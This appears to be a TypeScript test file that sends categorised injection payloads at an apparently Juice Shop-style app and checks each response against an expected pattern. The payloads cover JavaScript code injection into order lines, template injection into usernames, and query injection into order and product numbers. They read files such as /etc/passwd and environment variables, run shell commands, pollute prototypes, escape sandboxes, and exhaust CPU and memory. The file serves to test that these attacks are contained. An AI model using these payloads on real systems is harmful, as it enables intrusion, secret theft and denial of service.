import { type Inputs, type Line, OUT_OF_TIME, sendInputs } from '../hostile.ts'

const UNKNOWN = /^500 .*is not defined/s
/** Stopped by other limits long before the deadline: of iterations, of memory and depth, of texts and lists. */
const LOOPED = /^500 .*Infinite loop detected/s
const LIMITED = /^500 .*(out of memory|stack overflow|too (long|large)|invalid (string|array buffer) length)/s
/** Memory is so full that not even the error has a text. */
const FULL = /^500 .*(out of memory|Error: null)/s

/** JavaScript in the lines of a business order. It sees the language and nothing else. */
const orders = ({ file, folder, variable, port }: Parameters<Inputs>[0]): Line<string>[] => [
  ['files', `throw require('fs').readFileSync('${file}', 'utf8')`, UNKNOWN],
  ['files', `throw process.mainModule.require('fs').readFileSync('${file}', 'utf8')`, UNKNOWN],
  ['files', `throw process.binding('fs')`, UNKNOWN],
  ['files', `import('node:fs').then((fs) => fs.writeFileSync('${folder}/pwned', ''))`, /^(200|500) /s],
  ['files', `throw std.loadFile('${file}')`, UNKNOWN],
  ['files', `throw os.open('${file}')`, UNKNOWN],
  ['files', `throw Deno.readTextFileSync('${file}')`, UNKNOWN],
  ['environment', `throw process.env.${variable}`, UNKNOWN],
  [
    'environment',
    `throw JSON.stringify(Object.getOwnPropertyNames(globalThis))`,
    /^500 (?!.*(process|require))/s,
  ],
  ['environment', `throw std.getenv('${variable}')`, UNKNOWN],
  ['processes', `throw require('child_process').execSync('touch ${folder}/pwned')`, UNKNOWN],
  ['processes', `os.exec(['touch', '${folder}/pwned'])`, UNKNOWN],
  ['processes', `new Worker('${file}')`, UNKNOWN],
  ['network', `fetch('http://127.0.0.1:${port}/')`, UNKNOWN],
  ['network', `new WebSocket('ws://127.0.0.1:${port}/')`, UNKNOWN],
  ['network', `require('net').connect(${port})`, UNKNOWN],
  ['network', `const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:${port}/')`, UNKNOWN],
  ['realm', `Object.prototype.polluted = 1; Array.prototype.polluted = 1; 1`, /^200 /s],
  ['realm', `({ ['__proto__']: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } })`, /^200 /s],
  ['realm', `throw this.constructor.constructor('return process')()`, UNKNOWN],
  ['realm', `throw [].constructor.constructor('return globalThis.process.env')()`, /^500 .*undefined/s],
  ['realm', `throw Reflect.construct(Function, ['return process'])()`, UNKNOWN],
  ['realm', `throw (function* () {}).constructor('yield process')().next()`, UNKNOWN],
  ['realm', `throw (async () => {}).constructor('return process')`, /^500 /s],
  ['realm', `try { null.x } catch (e) { throw e.constructor.constructor('return process')() }`, UNKNOWN],
  ['realm', `Error.prepareStackTrace = (e, s) => s[0].getThis(); throw new Error('x').stack`, /^500 /s],
  ['realm', `JSON.stringify = () => '{"x":' ; JSON.parse = null; ({})`, /^200 /s],
  ['realm', `({ toJSON() { return this.constructor.constructor('return process')() } })`, UNKNOWN],
  ['realm', `throw new Proxy({}, { get: (t, k) => { throw process } })`, /^500 /s],
  ['time', `while (true) {}`, LOOPED],
  ['time', `for (;;);`, LOOPED],
  ['time', `do {} while (1)`, LOOPED],
  ['time', `outer: for (;;) { for (;;) continue outer }`, LOOPED],
  ['endless', `/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')`, OUT_OF_TIME],
  ['endless', `/^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(99))`, OUT_OF_TIME],
  ['time', `'a'.repeat(50000).replace(/(a*)*$/g, '')`, /^(200|500) /s],
  ['endless', `eval('for (;;) {}')`, OUT_OF_TIME],
  ['endless', `new Function('while (1);')()`, OUT_OF_TIME],
  ['time', `[1, 2].sort(() => { const f = () => f(); return f() })`, LIMITED],
  ['time', `const go = () => Promise.resolve().then(go); go()`, /^200 /s],
  ['endless', `throw { get message() { return eval('for (;;);') } }`, OUT_OF_TIME],
  ['endless', `new Proxy({}, { ownKeys: () => eval('for (;;);') })`, OUT_OF_TIME],
  ['time', `[...(function* () { let i = 0; while (true) yield i++ })()]`, LOOPED],
  ['time', `2n ** (2n ** 28n)`, LIMITED],
  ['time', `Array.from({ length: 1e9 }, (_, i) => i)`, LIMITED],
  ['time', `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)`, UNKNOWN],
  ['memory', `(function f() { f() })()`, LIMITED],
  ['memory', `'x'.repeat(2 ** 30)`, LIMITED],
  ['memory', `new Array(1e8).fill('x')`, LIMITED],
  ['memory', `new ArrayBuffer(2 ** 33)`, LIMITED],
  ['memory', `let s = 'x'; for (;;) s += s + s`, LIMITED],
  ['memory', `const m = new Map(); for (let i = 0; ; i++) m.set(i, 'x'.repeat(999))`, FULL],
  ['memory', `new WebAssembly.Memory({ initial: 65536 })`, UNKNOWN],
  ['memory', `Array(2 ** 32 - 1).join('xxxxxxxx')`, OUT_OF_TIME],
  ['memory', `JSON.parse('['.repeat(1e6))`, LIMITED],
  ['memory', `({ a: 'x'.repeat(5e6) })`, LIMITED],
  ['memory', `throw 'x'.repeat(3e6)`, /^500 .{0,20000}$/s],
  ['memory', '['.repeat(40_000), /^500 /s, '40,000 brackets'],
  ['memory', `${'1+'.repeat(30_000)}1`, /^(200|500) /s, 'a sum of 30,000'],
]

/** Templates in user names. They run on a fake host; a failing template is shown as typed. */
const templates = ({ file, link, folder, variable, port }: Parameters<Inputs>[0]): Line<string>[] => [
  ['files', `require('fs').readFileSync('${file}')`, /^200 .*<h2>\\#\{/s],
  ['files', `require('fs').readFileSync('${link}')`, /^200 .*<h2>\\#\{/s],
  ['files', `require('fs').readFileSync('../../../../../..${file}')`, /^200 .*<h2>\\#\{/s],
  ['files', `require('fs').readFileSync('file://${file}')`, /^200 .*<h2>\\#\{/s],
  ['files', `require('fs').readFileSync('/proc/self/environ')`, /^200 .*<h2>\\#\{/s],
  ['files', `require('fs').readFileSync('/etc/passwd')`, /^200 .*root:x:0:0/s],
  ['files', `require('fs').writeFileSync('${file}', 'pwned')`, /^200 .*<h2>\[object/s],
  ['files', `require('fs').readdirSync('${folder}')`, /^200 .*<h2>\\#\{/s],
  ['files', `process.mainModule.require('child_process').execSync('cat ${file}')`, /^200 .*<h2>\\#\{/s],
  ['environment', `process.env.${variable}`, /^200 .*<h2>\[object/s],
  ['environment', `require('child_process').execSync('env')`, /^200 .*NODE_ENV=production/s],
  ['environment', `process.binding('natives')`, /^200 .*<h2>\\#\{/s],
  ['environment', `process.cwd() + process.execPath + __dirname`, /^200 .*\/juice-shop/s],
  ['processes', `require('child_process').exec('touch ${folder}/pwned ./pwned')`, /^200 /s],
  ['processes', `require('child_process').spawn('/bin/sh', ['-c', 'touch ${folder}/pwned'])`, /^200 /s],
  ['processes', `process.exit(1)`, /^200 .*<h2>\\#\{/s],
  ['processes', `process.kill(1, 'SIGKILL')`, /^200 .*true/s],
  ['processes', `process.abort()`, /^200 .*<h2>\\#\{/s],
  ['network', `require('net').connect(${port}, '127.0.0.1')`, /^200 .*object Object/s],
  ['network', `require('http').get('http://127.0.0.1:${port}/')`, /^200 .*object Object/s],
  ['network', `require('child_process').execSync('curl http://127.0.0.1:${port}/')`, /^200 /s],
  ['network', `require('dgram').createSocket('udp4')`, /^200 .*<h2>\\#\{/s],
  ['network', `require('dns').lookup('localhost')`, /^200 .*<h2>\\#\{/s],
  ['realm', `Object.prototype.polluted = 'yes'`, /^200 .*yes/s],
  ['realm', `require.constructor('return this')().process.env.${variable}`, /^200 .*<h2>\[object/s],
  ['realm', `require('module')._load('fs')`, /^200 .*<h2>\\#\{/s],
  ['realm', `require('vm').runInThisContext('process')`, /^200 .*<h2>\\#\{/s],
  ['endless', `(() => { while (true); })()`, /^200 /s],
  ['time', `require('child_process').execSync('while true; do true; done')`, /^200 /s],
  ['endless', `/(a+)+$/.test('a'.repeat(60) + 'b')`, /^200 /s],
  ['memory', `'x'.repeat(1e9)`, /^200 /s],
  ['memory', `(function f() { return [f(), f()] })()`, /^200 /s],
  ['memory', `require('child_process').execSync('echo ' + 'x '.repeat(2e6)).length`, /^200 /s],
]

/** Expressions of the document store in an order number, which is cut after 60 characters. */
const numbers = ({ variable }: Parameters<Inputs>[0]): Line<string>[] => [
  ['environment', `'||process.env.${variable}||'`, /^400 /s],
  ['files', `'||require('fs')||'`, /^400 /s],
  ['realm', `'||(this.__proto__.polluted=1)||'`, /^200 /s],
  ['realm', `'||(Object.prototype.polluted=1)||'`, /^200 /s],
  ['realm', `'||this.constructor.constructor('return process')()||'`, /^400 /s],
  ['endless', `'||(()=>{while(true);})()||'`, /^400 /s],
  ['endless', `'||(()=>{for(;;);})()||'`, /^400 /s],
  ['time', `'||sleep(1e9)||'`, /^200 /s],
  ['endless', `'||/(a+)+$/.test('a'.repeat(99)+'b')||'`, /^400 /s],
  ['memory', `'||'x'.repeat(1e9)||'`, /^400 /s],
  ['memory', `'||(function f(){f()})()||'`, /^400 /s],
  ['memory', `'||(()=>{let a=[];for(;;)a.push(a+a)})()||'`, /^400 /s],
]

/** Expressions in a product number, which is cut after 40 characters. */
const products: Line<string>[] = [
  ['realm', '1||process.env', /^400 /s],
  ['realm', `(_=>{}).constructor('process.x')()`, /^400 /s],
  ['endless', '(()=>{for(;;);})()', /^400 /s],
  ['time', 'sleep(999999)', /^200 /s],
  ['memory', `'x'.repeat(1e9)`, /^400 /s],
]

export const scriptInputs: Inputs = (canaries) => [
  ...sendInputs(
    'JavaScript: orders',
    (learner, orderLinesData) => learner.json('POST', '/b2b/v2/orders', { cid: 'JS0815', orderLinesData }),
    orders(canaries),
  ),
  ...sendInputs(
    'JavaScript: names',
    async (learner, code) => {
      await learner.form('/profile', { username: `#{${code}}` })
      return learner.send('/profile')
    },
    templates(canaries),
  ),
  ...sendInputs(
    'Queries: order number',
    (learner, id) => learner.send(`/rest/track-order/${encodeURIComponent(id)}`),
    numbers(canaries),
  ),
  ...sendInputs(
    'Queries: reviews of',
    (learner, id) => learner.send(`/rest/products/${encodeURIComponent(id)}/reviews`),
    products,
  ),
]
